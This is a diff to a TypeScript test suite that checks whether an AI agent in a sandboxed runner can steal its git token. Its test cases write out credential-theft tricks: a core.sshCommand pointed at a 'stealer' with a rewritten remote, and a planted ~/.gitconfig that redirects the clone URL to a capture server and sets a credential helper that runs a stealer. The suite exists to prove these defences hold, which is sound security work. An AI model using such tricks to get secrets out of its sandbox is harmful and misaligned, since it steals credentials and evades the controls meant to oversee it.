@@ -8,13 +8,25 @@
  * saying what the agent had altered.
  */
 import assert from 'node:assert/strict';
-import { chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+} from 'node:fs';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
+import { execa } from 'execa';
 import { type CaptureServer, startCaptureServer } from './support/capture-server.js';
 import { type GitHttpServer, startGitHttpServer } from './support/git-http-server.js';
 import { GitSandbox, repo, type RunnerRun } from './support/git-sandbox.js';
+import { buildCloneScript } from '../../src/runner-contract/clone-script.js';
 import { shellQuote } from '../../src/runner-contract/shell.js';
+import { testGitEnv } from '../support/git.js';
 
 const TOKEN = 'ghp_tamperTestToken_0123456789abcdef';
 const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
@@ -70,6 +82,13 @@ function filesWithToken(dir: string): string[] {
   });
 }
 
+/** Each test judges its own run only. */
+function forgetEarlierTests(): void {
+  capture.clear();
+  rmSync(loot, { recursive: true, force: true });
+  mkdirSync(loot);
+}
+
 interface Outcome {
   run: RunnerRun;
   bare: string;
@@ -82,10 +101,7 @@ async function runTrick(name: string, script: string, beforeRun?: (clone: string
   const spec = repo(url, { credentialsSecretRef: { name: 'git', key: 'token' } });
   const { workspace, runnerRepos } = await sandbox.workspace([spec], { SHEPHERD_GIT_TOKEN_0: TOKEN });
   beforeRun?.(join(workspace, 'repo'));
-  // Each test judges its own run only.
-  capture.clear();
-  rmSync(loot, { recursive: true, force: true });
-  mkdirSync(loot);
+  forgetEarlierTests();
   const env = sandbox.runnerEnv(workspace, runnerRepos, {
     SHEPHERD_AGENT: 'command',
     SHEPHERD_COMMAND: JSON.stringify(['sh', '-c', `set -e; echo work > WORK.md; ${script}`]),
@@ -97,7 +113,7 @@ async function runTrick(name: string, script: string, beforeRun?: (clone: string
 }
 
 /** Nothing of the token went anywhere but the session's own server. */
-function assertNothingLeaked({ run }: Outcome): void {
+function assertNothingLeaked({ run }: Pick<Outcome, 'run'>): void {
   assert.deepEqual(
     capture.requests.map((request) => `${request.method} ${request.target}`),
     [],
@@ -189,7 +205,8 @@ describe('an agent trying to get the git token', () => {
     ],
     [
       'an ssh remote with a core.sshCommand of its own',
-      () => `git config core.sshCommand ${stealer('ssh')}; git remote set-url origin ssh://git@127.0.0.1/stolen.git`,
+      () =>
+        `git config core.sshCommand ${stealer('ssh')}; git remote set-url origin ssh://git@127.0.0.1/stolen.git`,
       /core\.sshcommand \(removed\)/,
     ],
     [
@@ -246,6 +263,40 @@ describe('an agent trying to get the git token', () => {
       assert.match(String(outcome.run.result?.summary), warning);
     });
   }
+
+  it('the clone step ignores a ~/.gitconfig an earlier agent left in HOME on the workspace', async () => {
+    sandbox.bareRepo('clone-home');
+    const url = server.url('clone-home.git');
+    const workspace = join(sandbox.root, 'clone-home-workspace');
+    const home = join(workspace, '.home');
+    mkdirSync(home, { recursive: true });
+    writeFileSync(
+      join(home, '.gitconfig'),
+      `[url "${capture.url}/"]\n\tinsteadOf = ${serverBase}\n[credential]\n\thelper = !${stealer('clone-helper')}\n`,
+    );
+    forgetEarlierTests();
+    const { GIT_CONFIG_GLOBAL: _global, ...env } = testGitEnv;
+    const clone = await execa(
+      'sh',
+      [
+        '-c',
+        buildCloneScript([repo(url, { credentialsSecretRef: { name: 'git', key: 'token' } })], workspace),
+      ],
+      { env: { ...env, HOME: home, SHEPHERD_GIT_TOKEN_0: TOKEN }, extendEnv: false, reject: false },
+    );
+    assert.equal(clone.exitCode, 0, String(clone.stderr));
+    assert.ok(existsSync(join(workspace, 'repo', 'README.md')), 'cloned from the session’s server');
+    assertNothingLeaked({
+      run: {
+        exitCode: clone.exitCode,
+        stdout: String(clone.stdout),
+        stderr: String(clone.stderr),
+        result: undefined,
+        resultText: '',
+        durationMs: 0,
+      },
+    });
+  });
 
   it('a clone tampered with by an earlier attempt is taken back before the runner fetches with the token', async () => {
     const outcome = await runTrick('earlier', 'true', (clone) => {
